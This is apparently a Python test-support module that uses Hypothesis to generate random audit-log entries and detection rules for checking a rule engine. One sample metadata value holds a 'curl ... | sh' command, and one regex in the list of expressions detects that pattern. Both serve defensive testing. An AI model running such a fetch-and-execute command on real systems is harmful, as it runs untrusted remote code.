"""Entries and rules to hold what is found against plain Python."""

import json
import random
from datetime import timedelta
from ipaddress import ip_network

from hypothesis import strategies as st

from audit_core.detect.rules.condition import (
    AllOf,
    AnyOf,
    Compared,
    Comparison,
    Fits,
    FitsAny,
    Likeness,
    MadeAt,
    MadeBetween,
    Not,
    Present,
    SameAs,
    Searched,
    TimePart,
    Within,
)
from audit_core.detect.rules.fields import RuleField
from audit_core.detect.rules.regular_expression import portable
from audit_core.detect.rules.rule import (
    AboveBand,
    EventCount,
    FirstSeen,
    Group,
    Level,
    LogSource,
    Missing,
    Muted,
    Rule,
    Selection,
    Single,
    Temporal,
    TemporalOrdered,
    ValueCount,
)
from audit_core.query.language.ast import Wildcard
from tests.support.strategies import NOW, entry

ORGANIZATION = "org-alpha"
SINCE = NOW - timedelta(days=2)
METADATA = (
    None,
    {"body": {"name": "Web", "count": 5, "public": True}},
    {"body": {"name": "web-2", "count": 50.5, "tags": ["Red", "blue", 7, None, True]}},
    {"body": {"name": "10.1.2.3", "count": "5", "tags": []}, "query": {"a/b~c": "x\ny"}},
    {"body": {"command": "curl -s http://x.y | sh\nexit", "tags": {"a": 1}}},
    {"body": {"name": "ÉCLAIR", "count": "1e2", "tags": ["10.1.9.9", "créme"]}},
)
FIELDS = [
    RuleField(name)
    for name in (
        "actorId",
        "actorEmail",
        "action",
        "targetId",
        "errorMessage",
        "ipAddress",
        "source",
        "metadata.body.name",
        "metadata.body.tags",
        "metadata.body.count",
        "metadata.body.command",
        "metadata.query.a/b~c",
        "metadata.body.none",
    )
]
GROUPED = [RuleField(name) for name in ("actorId", "targetId", "metadata.body.name", "actorEmail")]
TEXTS = (
    "Web",
    "web",
    "create",
    "delete",
    "true",
    "5",
    "50.5",
    "éclair",
    "user-1",
    "10.1.2.3",
    "red",
    "%",
    "x\ny",
)
EXPRESSIONS = (
    (r"curl\s+[^|]*\|\s*(ba)?sh", False),
    (r"^\d{1,3}(\.\d{1,3}){3}$", False),
    ("WEB", True),
    (r"x.y", False),
    (r"[^\w]$", False),
    (r"e(x|y)it$", False),
)


def entries_of(seed: int, count: int = 240):
    chance = random.Random(seed)  # noqa: S311
    return [
        entry(
            f"e-{number}",
            organization_id=ORGANIZATION if number % 9 else "org-beta",
            actor_id=chance.choice(("user-1", "USER-1", "user-2", "runner")),
            actor_email=chance.choice(("ann@example.org", "Ann@example.org", "")),
            action=chance.choice(("create", "delete", "Start", "toolbox_execute_command")),
            target_id=chance.choice((None, "sb-1", "sb-2", "user-1", "web")),
            status_code=chance.choice((None, 0, 200, 403, 500)),
            error_message=chance.choice((None, "Denied", "100% of disk", "a_b")),
            ip_address=chance.choice((None, "10.1.2.3", "::ffff:10.1.9.9", "2001:db8::1", "no")),
            source=chance.choice((None, "cli")),
            metadata=None
            if (held := chance.choice(METADATA)) is None
            else json.dumps(held, ensure_ascii=chance.random() < 0.5),
            # Milliseconds and microseconds at the edges of windows, and several at one time.
            created_at=SINCE
            + timedelta(
                minutes=10 * chance.randrange(280),
                microseconds=chance.choice((0, 0, 0, 1, 999, 1000)),
            ),
        )
        for number in range(count)
    ]


patterns = st.lists(
    st.one_of(st.sampled_from(TEXTS), st.sampled_from(list(Wildcard))), max_size=3
).map(tuple)
fields = st.sampled_from(FIELDS)
tests = st.one_of(
    st.builds(
        Fits,
        fields,
        st.one_of(st.sampled_from(TEXTS).map(lambda one: (one,)), patterns),
        st.booleans(),
    ),
    st.builds(
        Fits,
        st.just(RuleField("action")),
        st.sampled_from(("create", "DELETE", "start")).map(lambda one: (one,)),
        st.just(False),
    ),
    st.builds(FitsAny, st.sampled_from(TEXTS).map(lambda one: (Wildcard.MANY, one, Wildcard.MANY))),
    st.builds(
        lambda field, one: Searched(field, portable(one[0], ignore_case=one[1], dot_all=False)),
        fields,
        st.sampled_from(EXPRESSIONS),
    ),
    st.builds(
        Compared,
        st.sampled_from(
            [
                RuleField("statusCode"),
                RuleField("metadata.body.count"),
                RuleField("metadata.body.tags"),
            ]
        ),
        st.sampled_from(list(Comparison)),
        st.sampled_from((0, 5, 50.5, 100, 403)),
    ),
    st.builds(
        Within,
        fields,
        st.sampled_from(
            [ip_network("10.1.0.0/16"), ip_network("10.1.2.3/32"), ip_network("2001:db8::/32")]
        ),
    ),
    st.builds(
        SameAs,
        fields,
        fields.filter(lambda one: one.name != "metadata.body.tags"),
        st.sampled_from(list(Likeness)),
    ),
    st.builds(Present, st.sampled_from([*FIELDS, RuleField("metadata"), RuleField("createdAt")])),
    st.builds(MadeAt, st.sampled_from(list(TimePart)), st.integers(0, 23)),
    st.builds(
        lambda begin, lasts: MadeBetween(SINCE + begin, SINCE + begin + lasts),
        st.sampled_from([timedelta(0), timedelta(hours=5), timedelta(minutes=700)]),
        st.sampled_from([timedelta(0), timedelta(minutes=10), timedelta(days=1)]),
    ),
)
conditions = st.recursive(
    tests,
    lambda inner: st.one_of(
        st.lists(inner, max_size=3).map(lambda parts: AllOf(tuple(parts))),
        st.lists(inner, max_size=3).map(lambda parts: AnyOf(tuple(parts))),
        inner.map(Not),
    ),
    max_leaves=5,
)
# Enough entries that count, so that windows fill.
wide = st.one_of(
    conditions,
    st.sampled_from(
        [
            Fits(RuleField("action"), ("create",), False),
            Fits(RuleField("action"), ("delete",), False),
            Compared(RuleField("statusCode"), Comparison.AT_LEAST, 200),
            Present(RuleField("targetId")),
            # True of an entry only until it is finished.
            Not(Present(RuleField("statusCode"))),
            Not(Compared(RuleField("statusCode"), Comparison.AT_LEAST, 200)),
        ]
    ),
)
spans = st.sampled_from([timedelta(minutes=10), timedelta(hours=1), timedelta(hours=6)])
befores = st.sampled_from([timedelta(hours=3), timedelta(hours=20)])
correlations = st.one_of(
    st.just(Single()),
    st.builds(EventCount, spans, st.integers(1, 4)),
    st.builds(ValueCount, st.sampled_from(GROUPED), spans, st.integers(1, 3)),
    st.builds(Temporal, spans, st.integers(1, 3)),
    st.builds(TemporalOrdered, spans),
    st.builds(
        FirstSeen,
        st.lists(st.sampled_from(GROUPED), min_size=1, max_size=2, unique=True).map(tuple),
        befores,
        *[st.sampled_from([timedelta(0), timedelta(minutes=10), timedelta(hours=2)])] * 2,
    ),
    st.builds(Missing, spans),
    st.builds(AboveBand, befores, st.integers(1, 2), st.integers(1, 4)),
)


mutes = st.builds(
    lambda begin, lasts, condition: Muted(SINCE + begin, SINCE + begin + lasts, condition),
    st.sampled_from([timedelta(0), timedelta(hours=5), timedelta(minutes=700)]),
    st.sampled_from([timedelta(minutes=10), timedelta(hours=9), timedelta(days=1)]),
    conditions,
)


@st.composite
def rules(draw):
    correlation = draw(correlations)
    least, most = {
        Temporal: (2, 3),
        TemporalOrdered: (2, 3),
        Missing: (2, 2),
        FirstSeen: (1, 2),
        EventCount: (1, 3),
    }.get(type(correlation), (1, 1))
    selections = draw(st.lists(wide, min_size=least, max_size=most))
    groups = []
    for _ in range(draw(st.integers(0, 2))):
        same = [draw(st.sampled_from(GROUPED))] * len(selections)
        other = draw(st.lists(st.sampled_from(GROUPED), min_size=len(same), max_size=len(same)))
        chosen = (
            other
            if isinstance(correlation, EventCount | Temporal | TemporalOrdered)
            and draw(st.booleans())
            else same
        )
        groups.append(Group(f"g{len(groups)}", tuple(chosen)))
    return Rule(
        id="5c4f1f5e-2f64-4a52-9a53-1e59a7a3a1b1",
        title="Any",
        why="Because.",
        level=Level.LOW,
        source=LogSource.ENTRIES,
        selections=tuple(Selection(str(number), one) for number, one in enumerate(selections)),
        groups=tuple(groups),
        correlation=correlation,
        muted=draw(st.just(()) | st.lists(mutes, max_size=2).map(tuple)),
    )
